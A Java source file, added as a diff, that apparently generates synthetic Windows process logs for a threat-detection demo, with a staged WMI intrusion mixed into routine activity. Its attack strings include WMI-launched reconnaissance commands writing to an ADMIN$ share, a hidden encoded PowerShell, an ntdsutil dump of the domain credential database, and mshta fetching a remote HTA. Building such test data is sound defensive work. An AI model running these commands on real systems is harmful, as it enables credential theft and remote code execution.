@@ -1,0 +1,231 @@
+package io.spawnwatch.cli.demo;
+
+import java.nio.charset.StandardCharsets;
+import java.time.Duration;
+import java.time.Instant;
+import java.util.ArrayList;
+import java.util.Arrays;
+import java.util.List;
+import java.util.SplittableRandom;
+
+/**
+ * A Monday morning in a small company: some four thousand events as a log collector delivers them, one line each. Among
+ * the daily work are an attacker who moves through WMI, an inventory service that may, a laptop that comes back after
+ * the weekend, a kiosk whose clock is two days ahead, and lines that no decoder can read. Always the same.
+ */
+public final class DemoSample {
+    private static final Instant START = Instant.parse("2026-11-16T08:00:00Z");
+    private static final Duration STEP = Duration.ofMillis(2500);
+    private static final int RECORDS = 4000;
+    private static final String WMI = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe";
+    private static final String WMI_LINE = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding";
+
+    private static final String[][] DAILY = {
+        {
+            "C:\\Windows\\explorer.exe",
+            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+            "--restore-last-session"
+        },
+        {"C:\\Windows\\explorer.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "/recycle"},
+        {"C:\\Windows\\explorer.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "/dde"},
+        {"C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\notepad.exe", "notes.txt"},
+        {"C:\\Windows\\System32\\services.exe", "C:\\Windows\\System32\\svchost.exe", "-k netsvcs -p -s Schedule"},
+        {"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\taskhostw.exe", ""},
+        {"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "-secured -Embedding"},
+        {"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\RuntimeBroker.exe", "-Embedding"},
+        {"C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\ipconfig.exe", "/all"},
+        {"C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\cmd.exe", "/k"},
+    };
+    private static final String[] PEOPLE = {"a.okafor", "b.lindqvist", "c.moreau", "d.tanaka", "e.rossi", "f.novak"};
+
+    private final SplittableRandom random = new SplittableRandom(1047);
+    private final List<byte[]> records = new ArrayList<>(RECORDS);
+
+    private DemoSample() {}
+
+    /** The lines, in the order of their arrival. */
+    public static List<byte[]> records() {
+        DemoSample sample = new DemoSample();
+        while (sample.records.size() < RECORDS) {
+            sample.next(sample.records.size());
+        }
+        return sample.records;
+    }
+
+    /**
+     * When a line arrived.
+     *
+     * @param line line number, from 1
+     * @return epoch milliseconds UTC
+     */
+    public static long arrivalMs(long line) {
+        return START.plus(STEP.multipliedBy(line - 1)).toEpochMilli();
+    }
+
+    private void next(int index) {
+        if (index >= 1500 && index < 1530 && index % 5 == 0) {
+            attack((index - 1500) / 5);
+        } else if (index % 120 == 60) {
+            inventory();
+        } else if (index % 700 == 350) {
+            unreadable(index / 700);
+        } else if (index % 250 == 125) {
+            kiosk(index);
+        } else if (index >= 2600 && index < 2640 && index % 10 == 0) {
+            laptop((index - 2600) / 10);
+        } else if (random.nextInt(100) < 45) {
+            other();
+        } else {
+            daily();
+        }
+    }
+
+    private Instant now() {
+        return Instant.ofEpochMilli(arrivalMs(records.size() + 1L)).minusMillis(random.nextInt(20_000));
+    }
+
+    private String host() {
+        return String.format("ws-%04d.corp.example", 1 + random.nextInt(40));
+    }
+
+    private String person() {
+        return "CORP\\" + PEOPLE[random.nextInt(PEOPLE.length)];
+    }
+
+    private void daily() {
+        String[] one = DAILY[random.nextInt(DAILY.length)];
+        add(spawn(now(), host(), person(), one[0], one[0], one[1], ("\"" + one[1] + "\" " + one[2]).strip()));
+    }
+
+    private void other() {
+        records.add(DemoFormats.networkConnection(now(), host(), person()));
+    }
+
+    /** What the allowlist allows: the inventory service asks every machine, by WMI, what is in it. */
+    private void inventory() {
+        String image = "C:\\Program Files\\Inventory\\collect.exe";
+        add(spawn(now(), host(), "CORP\\svc-inventory", WMI, WMI_LINE, image, "\"" + image + "\" --hardware --quiet"));
+    }
+
+    /** Remote commands through WMI, the output of which goes back over a share, then a hidden PowerShell. */
+    private void attack(int step) {
+        String cmd = "C:\\Windows\\System32\\cmd.exe";
+        String powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
+        String share = " 1> \\\\127.0.0.1\\ADMIN$\\__1763283734.21 2>&1";
+        String admin = "CORP\\adm.petrov";
+        switch (step) {
+            case 0 ->
+                add(spawn(
+                        now(), "srv-files01.corp.example", admin, WMI, WMI_LINE, cmd, "cmd.exe /Q /c whoami" + share));
+            case 1 -> {
+                // The collector delivers this one twice; a search counts both.
+                DemoProcess twice = spawn(
+                        now(),
+                        "srv-files01.corp.example",
+                        admin,
+                        WMI,
+                        WMI_LINE,
+                        cmd,
+                        "cmd.exe /Q /c net group \"Domain Admins\" /domain" + share);
+                records.add(DemoFormats.nxlog(twice));
+                records.add(DemoFormats.nxlog(twice));
+            }
+            case 2 ->
+                add(spawn(
+                        now(), "srv-sql02.corp.example", admin, WMI, WMI_LINE, cmd, "cmd.exe /Q /c tasklist" + share));
+            case 3 ->
+                add(spawn(
+                        now(),
+                        "srv-sql02.corp.example",
+                        admin,
+                        WMI,
+                        WMI_LINE,
+                        powershell,
+                        "powershell.exe -NoP -W Hidden -Enc UwB0AGEAcgB0AC0AUwBsAGUAZQBwACAANgAwAA=="));
+            default ->
+                records.add(DemoFormats.securityXml(spawn(
+                        now(),
+                        "srv-dc01.corp.example",
+                        "CORP\\adm.petrov",
+                        "C:\\WINDOWS\\SYSTEM32\\WBEM\\WMIPRVSE.EXE",
+                        WMI_LINE,
+                        cmd,
+                        "cmd.exe /Q /c ntdsutil \"ac i ntds\" ifm \"create full c:\\temp\\x" + step + "\" q q")));
+        }
+    }
+
+    /** A laptop that was offline since Friday evening. Its events are late, and one of them is an attack. */
+    private void laptop(int step) {
+        Instant friday = Instant.parse("2026-11-13T17:41:00Z").plusSeconds(17L * step);
+        String mshta = "C:\\Windows\\System32\\mshta.exe";
+        add(
+                step == 2
+                        ? spawn(
+                                friday,
+                                "lt-0007.corp.example",
+                                "CORP\\d.tanaka",
+                                WMI,
+                                WMI_LINE,
+                                mshta,
+                                "mshta.exe http://198.51.100.7/update.hta")
+                        : spawn(
+                                friday,
+                                "lt-0007.corp.example",
+                                "CORP\\d.tanaka",
+                                DAILY[3][0],
+                                DAILY[3][0],
+                                DAILY[3][1],
+                                "notepad.exe"));
+    }
+
+    /** A kiosk whose clock is two days ahead. */
+    private void kiosk(int index) {
+        Instant ahead = now().plus(Duration.ofDays(2));
+        String calc = "C:\\Windows\\System32\\calc.exe";
+        boolean wmi = index == 2125;
+        add(spawn(
+                ahead,
+                "kiosk-03.corp.example",
+                "KIOSK-03\\guest",
+                wmi ? WMI : DAILY[0][0],
+                wmi ? WMI_LINE : DAILY[0][0],
+                wmi ? calc : DAILY[0][1],
+                wmi ? "calc.exe" : "chrome.exe --kiosk"));
+    }
+
+    private void unreadable(int kind) {
+        byte[] whole =
+                DemoFormats.nxlog(spawn(now(), host(), person(), DAILY[0][0], DAILY[0][0], DAILY[0][1], "chrome.exe"));
+        records.add(
+                switch (kind % 3) {
+                    case 0 -> Arrays.copyOf(whole, whole.length / 2);
+                    case 1 -> "<13>Nov 16 09:02:11 fw01 kernel: eth0 link up".getBytes(StandardCharsets.UTF_8);
+                    default -> DemoFormats.withoutTime(host());
+                });
+    }
+
+    private DemoProcess spawn(
+            Instant time, String host, String user, String parentImage, String parentLine, String image, String line) {
+        return new DemoProcess(
+                time,
+                host,
+                user,
+                1000 + random.nextInt(9000),
+                image,
+                line,
+                500 + random.nextInt(9000),
+                parentImage,
+                parentLine);
+    }
+
+    /** In one of the formats that a company of several collectors has. */
+    private void add(DemoProcess process) {
+        int format = random.nextInt(10);
+        records.add(
+                format < 5
+                        ? DemoFormats.nxlog(process)
+                        : format < 8
+                                ? DemoFormats.winlogbeat(process)
+                                : format < 9 ? DemoFormats.sysmonXml(process) : DemoFormats.cim(process));
+    }
+}
